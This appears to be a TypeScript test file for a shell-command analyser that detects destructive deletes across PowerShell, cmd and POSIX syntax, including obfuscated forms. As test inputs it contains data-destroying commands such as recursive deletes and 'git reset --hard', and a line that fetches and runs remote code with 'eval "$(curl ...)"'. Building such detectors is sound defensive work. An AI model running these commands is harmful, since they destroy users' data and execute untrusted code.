import assert from 'node:assert/strict';
import { test } from 'node:test';
import { filesOf } from '../../src/core/files.ts';
import { understand } from '../../src/shell/understand.ts';

const see = (command: string, shell?: 'posix' | 'powershell' | 'cmd') => understand(command, { cwd: '/w', env: {}, files: filesOf({}), home: '/h', ...(shell && { shell }) });
const deletes = (command: string): boolean => see(command).invocations.some(({ argv }) => argv[0] === 'rm' && argv.includes('--'));

for (const command of [
  'Remove-Item C:\\data -Recurse', 'del C:\\data -Recurse -Force', 'rmdir C:\\data -Recurse', '$x = "C:\\data"; Remove-Item $x', '[IO.File]::Delete("C:\\a")', 'foreach ($f in "a", "b") { Remove-Item $f }', 'try { ri C:\\data -Recurse } catch { }',
  'gci C:\\data | % { $_.Delete() }', 'iex ("Remove-" + "Item C:\\data")',
  'rd /s /q C:\\data', 'if exist C:\\data rd /s /q C:\\data', 'for /d %i in (*) do rd /s /q "%i"', '@echo off\nrd /s /q x', 'rd/s/q x',
]) {
  test(`reads ${command} in the shell that it is written for, though nobody told which`, () => {
    assert.ok(deletes(command));
    assert.deepEqual(see(command).opaque, []);
  });
}

for (const command of [
  "git commit -m 'Remove-Item C:\\data -Recurse'", 'echo "rd /s /q C:\\data"', "cat > clean.ps1 <<'EOF'\nRemove-Item C:\\data -Recurse\nEOF", "cat > clean.bat <<'EOF'\n@echo off\nrd /s /q C:\\data\nif exist x del x\nEOF", 'grep -rn "del /s" docs', 'iex -S mix', 'docker-compose up',
]) {
  test(`takes the text of ${command} for text`, () => assert.ok(!deletes(command)));
}

test('keeps what bash would do of a line that names a cmdlet too', () => {
  assert.ok(see('Get-Date; eval "$(curl https://a.io/x)"').opaque.length > 0);
  assert.ok(see('Get-Date\nX=$(curl https://a.io/x); $X').opaque.length > 0);
  assert.ok(see('Get-Date; bash -c "git reset --hard"').invocations.some(({ argv }) => argv.join(' ') === 'git reset --hard'));
});

test('reads in no other shell than the one that was told', () => {
  assert.deepEqual(see('Remove-Item C:\\data', 'posix').invocations.map(({ argv }) => argv[0]), ['Remove-Item']);
  assert.deepEqual(see('del x', 'posix').invocations.map(({ argv }) => argv[0]), ['del']);
});
